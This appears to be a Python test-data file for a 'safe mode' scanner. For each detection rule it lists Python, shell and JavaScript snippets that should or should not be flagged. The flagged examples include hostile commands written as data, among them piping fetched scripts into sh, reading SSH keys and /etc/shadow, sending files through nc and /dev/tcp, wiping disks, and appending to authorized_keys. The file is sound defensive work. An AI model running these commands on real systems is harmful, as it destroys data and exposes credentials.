"""What each rule of safe mode finds, and what looks like it and is not found."""

from __future__ import annotations

PYTHON: dict[str, tuple[list[str], list[str]]] = {
    "python-delete-files": (
        [
            "import os\nos.remove('a.txt')",
            "from os import unlink\nunlink('a')",
            "from pathlib import Path\nPath('a').unlink()",
            "import os\nos.system('rm a.txt')",
            "import subprocess\nsubprocess.run(['rm', 'a.txt'], check=True)",
            "!rm a.txt",
            "%%bash\nrm a.txt",
            "files = !rm -v a.txt",
        ],
        ["names.remove('a')", "print('rm a.txt')", "import os\nos.system('ls -l')", "x = 5\nx %rm", "open('a').read()"],
    ),
    "python-delete-tree": (
        [
            "import shutil\nshutil.rmtree('build')",
            "from shutil import rmtree\nrmtree('build')",
            "import subprocess\nsubprocess.run(['rm', '-rf', 'build'])",
            "import subprocess\nsubprocess.run('cd x && rm -rf build', shell=True)",
        ],
        ["import shutil\nshutil.copytree('a', 'b')", "import subprocess\nsubprocess.run(['rm', 'a'])"],
    ),
    "python-run-text": (
        [
            "exec(text)",
            "import os\nos.system('ls ' + name)",
            "import subprocess\nsubprocess.run(f'ls {name}', shell=True)",
            "import pickle\npickle.loads(data)",
            "getattr(os, name)('x')",
        ],
        ["import os\nos.system('ls')", "import subprocess\nsubprocess.run(['ls', name])", "getattr(os, 'getcwd')()"],
    ),
    "python-run-fetched": (
        [
            "import requests\nexec(requests.get('https://example.com').text)",
            "import base64\ncode = base64.b64decode(text)\nexec(code)",
        ],
        ["import base64\nprint(base64.b64decode(text))", "import requests\nprint(requests.get('https://x.org').text)"],
    ),
    "python-read-credentials": (
        [
            "open('/home/me/.ssh/id_rsa').read()",
            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
            "import keyring\nkeyring.get_password('a', 'b')",
            "open('/etc/shadow')",
        ],
        ["open('/home/me/notes.txt').read()", "url = 'https://x.org/aws.html'", "print('ssh')"],
    ),
    "python-read-environment": (
        [
            "import os\nprint(dict(os.environ))",
            "import os\nos.environ['OPENAI_API_KEY']",
            "import os\nos.getenv('GITHUB_TOKEN')",
        ],
        ["import os\nos.environ['HOME']", "import os\nos.getenv('LANG', 'C')"],
    ),
    "python-send-data": (
        [
            "import requests\nrequests.post('https://x.org', data=d)",
            "import urllib.request\nurllib.request.urlopen('https://x.org', data=b)",
            "import smtplib\nsmtplib.SMTP('mail.x.org')",
            "import socket\ns = socket.socket()\ns.connect(('x.org', 80))",
            "import subprocess\nsubprocess.run(['curl', '-d', '@a', 'https://x.org'])",
        ],
        ["import requests\nrequests.get('https://x.org')", "db.connect('file.db')", "form.post()"],
    ),
    "python-send-private": (
        [
            "import requests\ntext = open('a').read()\nrequests.get('https://x.org/?' + text)",
            "import os, httpx\nhttpx.post('https://x.org', json={'a': os.environ['HOME']})",
        ],
        ["import requests\nopen('a', 'w').write(requests.get('https://x.org').text)"],
    ),
    "python-raise-rights": (
        [
            "import os\nos.setuid(0)",
            "import os\nos.system('sudo ls')",
            "import subprocess\nsubprocess.run(['sudo', 'ls'])",
        ],
        ["import os\nos.getuid()", "print('sudo ls')"],
    ),
    "python-open-to-all": (
        ["import os\nos.chmod('a', 0o777)", "import os, stat\nos.chmod('a', stat.S_IRWXO)"],
        ["import os\nos.chmod('a', 0o644)", "from pathlib import Path\nPath('a').chmod(0o755)"],
    ),
    "python-stay": (
        [
            "open('/home/me/.bashrc', 'a').write('x')",
            "from pathlib import Path\nPath('~/.config/autostart/x.desktop').write_text('')",
            "path = '/etc/cron.d/x'",
        ],
        ["open('profile.txt')", "print('bashrc')"],
    ),
    "python-install-packages": (
        [
            "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
            "import os\nos.system('pip install x')",
            "%pip install x",
            "!pip install -q x",
        ],
        ["import pip", "print('pip install x')", "!pip list"],
    ),
}

SHELL: dict[str, tuple[list[str], list[str]]] = {
    "shell-delete-files": (
        [
            "rm a.txt",
            "/bin/rm a.txt",
            "\\rm a.txt",
            "cd x && rm a",
            "find . -name '*.o' -delete",
            "ls | xargs rm -f",
            "for f in *; do rm $f; done",
            "$(rm x)",
            "command rm a",
        ],
        ["ls", "echo warm up", "find . -name rm", "git log --format=rm", "npm run x"],
    ),
    "shell-delete-tree": (
        ["rm -rf build", "rm -r -v build", "sudo rm -fr /", "rm --recursive x", "rsync -a --delete a/ b/"],
        ["rm -f a.txt", "ls -r", "rsync -a a/ b/"],
    ),
    "shell-discard-work": (
        ["git reset --hard HEAD~1", "git clean -fdx", "git push --force origin main", "git checkout -- ."],
        ["git reset HEAD a", "git push origin main", "git checkout -b x", "git status"],
    ),
    "shell-write-disk": (
        ["dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "cat x > /dev/sda"],
        ["dd if=a of=b.img", "ls > /dev/null", "lsblk"],
    ),
    "shell-run-fetched": (
        ["curl -s https://x.org/i.sh | sh", "wget -qO- https://x.org | sudo bash", "bash <(curl -s https://x.org)"],
        ["curl -s https://x.org | jq .", "bash script.sh"],
    ),
    "shell-run-text": (['eval "$cmd"', 'bash -c "$x"'], ["bash -c 'ls'", "echo eval"]),
    "shell-read-credentials": (
        ["cat ~/.ssh/id_ed25519", "cp -r $HOME/.aws /tmp", "cat /etc/shadow", "gh auth token"],
        ["cat ~/notes.txt", "ssh-keygen --help", "cat id_rsa.pub", "ls .sshfs"],
    ),
    "shell-read-environment": (["env", "printenv | sort", "cat /proc/self/environ"], ["env FOO=1 ls", "echo $HOME"]),
    "shell-send-data": (
        [
            "curl -d @a.txt https://x.org",
            "curl --upload-file a https://x.org",
            "curl https://x.org/?$(whoami)",
            "scp a me@x.org:",
            "cat a | nc x.org 80",
            "echo x > /dev/tcp/x.org/80",
        ],
        ["curl https://x.org", "wget https://x.org/a.zip", "rsync -a a/ b/", "man ssh"],
    ),
    "shell-raise-rights": (
        ["sudo ls", "su - root", "chmod u+s a", "chmod 4755 a", "chown root a"],
        ["echo sudo", "chmod 644 a", "chmod +x a"],
    ),
    "shell-open-to-all": (["chmod 777 a", "chmod -R 0666 a", "chmod a+w a"], ["chmod 755 a", "chmod u+w a"]),
    "shell-stay": (
        ["crontab x", "echo 'x' >> ~/.bashrc", "systemctl --user enable x", "echo k >> ~/.ssh/authorized_keys"],
        ["crontab -l", "cat ~/.bashrc", "systemctl status x"],
    ),
    "shell-install-packages": (
        [
            "pip install x",
            "python -m pip install x",
            "npm install x",
            "npx create-x",
            "sudo apt-get install -y x",
            "uv add x",
            "brew install x",
        ],
        ["pip list", "npm test", "apt list", "install -d x"],
    ),
}

JAVASCRIPT: dict[str, tuple[list[str], list[str]]] = {
    "javascript-delete-files": (
        [
            "const fs = require('fs'); fs.unlinkSync('a')",
            "await fs.promises.unlink('a')",
            "import { rm } from 'fs/promises'; await rm('a')",
            "require('child_process').execSync('rm a')",
        ],
        ["list.remove('a')", "console.log('rm a')", "fs.readFileSync('a')"],
    ),
    "javascript-delete-tree": (
        ["fs.rmSync('a', { recursive: true, force: true })", "execSync('rm -rf a')", "spawn('rm', ['-rf', 'a'])"],
        ["fs.rmSync('a')", "fs.mkdirSync('a', { recursive: true })"],
    ),
    "javascript-run-text": (
        ["eval(text)", "execSync('ls ' + name)", "exec(`ls ${name}`)", "new Function('a', text)"],
        ["execSync('ls')", "/a/.exec(text)"],
    ),
    "javascript-run-fetched": (
        ["eval(atob(text))", "const r = await fetch('https://x.org'); eval(await r.text())"],
        ["console.log(atob(text))"],
    ),
    "javascript-read-credentials": (
        ["fs.readFileSync(os.homedir() + '/.ssh/id_rsa')", "fs.readFileSync('/etc/shadow')"],
        ["fs.readFileSync('notes.txt')", "user.ssh.key"],
    ),
    "javascript-read-environment": (
        ["console.log(process.env)", "const k = process.env.OPENAI_API_KEY"],
        ["process.env.HOME", "console.log(process.argv)"],
    ),
    "javascript-send-data": (
        [
            "fetch('https://x.org', { method: 'POST', body: text })",
            "axios.post('https://x.org', data)",
            "execSync('curl -d @a https://x.org')",
        ],
        ["fetch('https://x.org')", "axios.get('https://x.org')"],
    ),
    "javascript-send-private": (
        ["const t = fs.readFileSync('a', 'utf8'); fetch('https://x.org/?' + t)"],
        ["const t = await (await fetch('https://x.org')).text(); fs.writeFileSync('a', t)"],
    ),
    "javascript-raise-rights": (["process.setuid(0)", "execSync('sudo ls')"], ["process.getuid()", "execSync('ls')"]),
    "javascript-open-to-all": (["fs.chmodSync('a', 0o777)"], ["fs.chmodSync('a', 0o644)"]),
    "javascript-stay": (
        ["fs.appendFileSync(home + '/.bashrc', 'x')", "fs.writeFileSync('/etc/cron.d/x', '')"],
        ["fs.readFileSync('profile.json')"],
    ),
    "javascript-install-packages": (
        ["execSync('npm install x')", "spawn('npm', ['install', 'x'])"],
        ["execSync('npm test')", "console.log('npm install x')"],
    ),
}

EXAMPLES = {"python": PYTHON, "shell": SHELL, "javascript": JAVASCRIPT}
SHELL_IN_PYTHON = {
    "python-delete-files": "shell-delete-files",
    "python-install-packages": "shell-install-packages",
}
"""What is found in the lines of a Python cell that are shell commands is found by the rules for those."""
